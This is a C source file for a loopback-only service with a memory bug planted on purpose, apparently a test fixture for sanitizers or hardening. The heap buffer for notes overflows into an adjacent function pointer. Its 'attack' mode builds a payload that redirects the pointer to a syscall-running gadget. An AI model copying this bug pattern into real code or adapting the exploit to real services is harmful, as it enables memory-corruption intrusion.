/* SPDX-License-Identifier: Apache-2.0 */
/*
 * planted serve PORT: a small service with a memory bug, on a loopback port, until SIGTERM. Requests
 * are lines:
 *
 *	get NAME, put NAME VALUE	from and into a table
 *	reload				rare and honest: a larger table (mremap), whose group we are (getpgrp)
 *	note SIZE			and SIZE bytes: kept in a buffer that is too small for long ones
 *
 * planted ask PORT LINE...	sends them; 1 when an answer isn't "ok"
 * planted attack PORT NR...	sends a note that makes the service call those numbers
 *
 * The bug: a note's size is believed. What lies behind the buffer is a function pointer; the attacker,
 * who has the same executable, knows where both are and what else is in it. Built with -no-pie -static
 * the service is diverted; built with -fsanitize=address it reports and ends.
 */
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#define LINE_MAX_  256
#define NOTE_ROOM  72 /* malloc's chunks of this size have no gap */
#define NOTE_MAX   4096
#define CALLS_MAX  7
#define TABLE_STEP 65536
#define ROW	   64

struct service {
	void (*kept)(struct service *s); /* told of each note */
	char *note;
	char *table; /* rows of ROW bytes, "NAME VALUE" */
	size_t size;
};

static volatile sig_atomic_t ending;

static void on_term(int sig)
{
	ending = sig;
}

/* --- requests ----------------------------------------------------------------------------- */

static void count(struct service *s)
{
	static unsigned notes;

	fprintf(stderr, "note %u: %.8s\n", ++notes, s->note);
}

/* Nothing calls it: what attackers find in every executable, made plain. */
static __attribute__((used, noinline)) void gadget(struct service *s)
{
	uint64_t nr[CALLS_MAX + 1];

	memcpy(nr, s->note, sizeof(nr));
	for (size_t i = 0; i < CALLS_MAX && nr[i] != UINT64_MAX; i++)
		if (syscall((long)nr[i], "/nowhere", NULL, NULL, NULL, NULL, NULL) < 0)
			fprintf(stderr, "call %ld: %s\n", (long)nr[i], strerror(errno));
}

static bool read_all(FILE *f, char *to, size_t size)
{
	return fread(to, 1, size, f) == size;
}

static const char *note(struct service *s, FILE *f, const char *arg)
{
	static char got[NOTE_MAX];
	size_t size = strtoul(arg, NULL, 10);

	if (size > sizeof(got) || !read_all(f, got, size))
		return "bad note";
	memcpy(s->note, got, size); /* the bug */
	s->kept(s);
	return "ok";
}

static const char *reload(struct service *s)
{
	void *larger = mremap(s->table, s->size, s->size + TABLE_STEP, MREMAP_MAYMOVE);

	if (larger == MAP_FAILED)
		return "no room";
	s->table = larger;
	s->size += TABLE_STEP;
	return getpgrp() < 0 ? "no group" : "ok";
}

static char *row_find(struct service *s, const char *name, size_t len)
{
	for (char *row = s->table; row < s->table + s->size; row += ROW)
		if (!*row || (strncmp(row, name, len) == 0 && row[len] == ' '))
			return row;
	return NULL;
}

static const char *put(struct service *s, const char *arg)
{
	size_t len = strcspn(arg, " ");
	char *row = row_find(s, arg, len);

	if (!row || arg[len] != ' ' || strlen(arg) >= ROW)
		return "bad put";
	strcpy(row, arg);
	return "ok";
}

static const char *get(struct service *s, const char *arg)
{
	char *row = row_find(s, arg, strlen(arg));

	return row && *row ? "ok" : "no such name";
}

static const char *answer(struct service *s, FILE *f, const char *line)
{
	if (strncmp(line, "get ", 4) == 0)
		return get(s, line + 4);
	if (strncmp(line, "put ", 4) == 0)
		return put(s, line + 4);
	if (strncmp(line, "note ", 5) == 0)
		return note(s, f, line + 5);
	return strcmp(line, "reload") == 0 ? reload(s) : "what?";
}

/* --- the service ----------------------------------------------------------------------------- */

static int address(const char *port, struct sockaddr_in *ret)
{
	*ret = (struct sockaddr_in){
		.sin_family = AF_INET,
		.sin_port = htons((uint16_t)atoi(port)),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
	return socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

static void talk(struct service *s, int fd)
{
	FILE *f = fdopen(fd, "r");
	char line[LINE_MAX_];

	while (f && fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\n")] = '\0';
		dprintf(fd, "%s\n", answer(s, f, line));
	}
	if (f)
		fclose(f);
}

/* The two next to each other, as they come from malloc in a service that has just begun. */
static bool service_init(struct service **ret)
{
	char *room = malloc(NOTE_ROOM);
	struct service *s = malloc(NOTE_ROOM);

	if (!room || !s)
		return false;
	*s = (struct service){ .kept = count, .note = room, .size = TABLE_STEP };
	s->table = mmap(NULL, s->size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	*ret = s;
	return s->table != MAP_FAILED;
}

static int serve(const char *port)
{
	struct sigaction term = { .sa_handler = on_term };
	struct sockaddr_in a;
	int fd = address(port, &a), one = 1, client;
	struct service *s = NULL;

	sigaction(SIGTERM, &term, NULL);
	signal(SIGPIPE, SIG_IGN);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (!service_init(&s) || bind(fd, (struct sockaddr *)&a, sizeof(a)) || listen(fd, 16)) {
		fprintf(stderr, "planted: %s\n", strerror(errno));
		return 1;
	}
	while (!ending)
		if ((client = accept4(fd, NULL, NULL, SOCK_CLOEXEC)) >= 0)
			talk(s, client);
	munmap(s->table, s->size);
	free(s->note);
	free(s);
	return 0;
}

/* --- who asks -------------------------------------------------------------------------------- */

static int reach(const char *port)
{
	struct sockaddr_in a;
	int fd = address(port, &a);

	if (connect(fd, (struct sockaddr *)&a, sizeof(a)) == 0)
		return fd;
	fprintf(stderr, "planted: port %s: %s\n", port, strerror(errno));
	exit(1);
}

static int ask_all(const char *port, char **lines)
{
	int fd = reach(port);
	FILE *f = fdopen(fd, "r");
	char got[LINE_MAX_];
	int bad = 0;

	for (; *lines; lines++) {
		dprintf(fd, "%s\n", *lines);
		if (!fgets(got, sizeof(got), f))
			return 1;
		if (strcmp(got, "ok\n") != 0)
			bad = fprintf(stderr, "%s: %s", *lines, got) > 0;
	}
	fclose(f);
	return bad;
}

/* From the buffer's begin over the end of its chunk, whose size stays, to the pointer. */
static int attack(const char *port, char **numbers)
{
	struct service *mine;
	uint64_t nr[CALLS_MAX + 1];
	char payload[NOTE_MAX];
	size_t n = 0, size;
	void (*to)(struct service * s) = gadget;
	int fd;

	if (!service_init(&mine))
		return 1;
	for (; numbers[n] && n < CALLS_MAX; n++)
		nr[n] = strtoul(numbers[n], NULL, 10);
	nr[n] = UINT64_MAX;
	size = (size_t)((char *)mine - mine->note) + sizeof(to);
	if (size > sizeof(payload) || size <= NOTE_ROOM)
		return 1;
	memcpy(payload, mine->note, size);
	memcpy(payload, nr, (n + 1) * sizeof(nr[0]));
	memcpy(payload + size - sizeof(to), &to, sizeof(to));
	fd = reach(port);
	dprintf(fd, "note %zu\n", size);
	if (write(fd, payload, size) != (ssize_t)size)
		return 1;
	return read(fd, payload, sizeof(payload)) > 0 ? 0 : 3;
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "serve") == 0)
		return serve(argv[2]);
	if (argc > 3 && strcmp(argv[1], "ask") == 0)
		return ask_all(argv[2], argv + 3);
	if (argc > 3 && strcmp(argv[1], "attack") == 0)
		return attack(argv[2], argv + 3);
	fprintf(stderr, "usage: planted serve PORT | ask PORT LINE... | attack PORT NUMBER...\n");
	return 2;
}
